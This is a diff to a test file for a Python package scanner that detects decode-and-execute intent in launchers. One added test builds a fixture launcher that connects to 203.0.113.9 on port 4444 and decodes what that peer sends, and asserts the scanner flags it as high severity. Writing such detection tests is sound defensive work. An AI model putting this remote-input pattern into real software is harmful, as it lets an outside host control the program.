@@ -3334,6 +3334,8 @@ if __name__ == "__main__":
         "world = json.loads(base64.urlsafe_b64decode(args.world_info))",
         "world = json.loads(base64.b64decode(sys.argv[1]))",
         "world = json.loads(base64.b64decode(argparse.ArgumentParser().parse_args().world_info))",
+        "world = json.loads(base64.b64decode("
+        "argparse.ArgumentParser().parse_args(sys.argv[1:]).world_info))",
     ],
 )
 def test_a_launcher_decoding_its_command_line_arguments_is_only_a_warning(decode):
@@ -3343,6 +3345,18 @@ def test_a_launcher_decoding_its_command_line_arguments_is_only_a_warning(decode
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/launch.py": src})
     assert severities(result, "intent.decode-execute") <= {"medium"}
     assert result.verdict not in FLAGGED
+
+
+def test_arguments_parsed_from_what_a_peer_sent_are_not_the_command_line():
+    decode = (
+        "import socket\n    peer = socket.create_connection(('203.0.113.9', 4444))\n"
+        "    world = json.loads(base64.b64decode(argparse.ArgumentParser().parse_args("
+        "peer.recv(4096).decode().split()).world_info))"
+    )
+    src = _LAUNCHER.format(decode=decode)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/launch.py": src})
+    assert "high" in severities(result, "intent.decode-execute")
+    assert result.verdict in FLAGGED
 
 
 def test_a_launcher_decoding_a_blob_of_its_own_and_running_it_stays_serious():
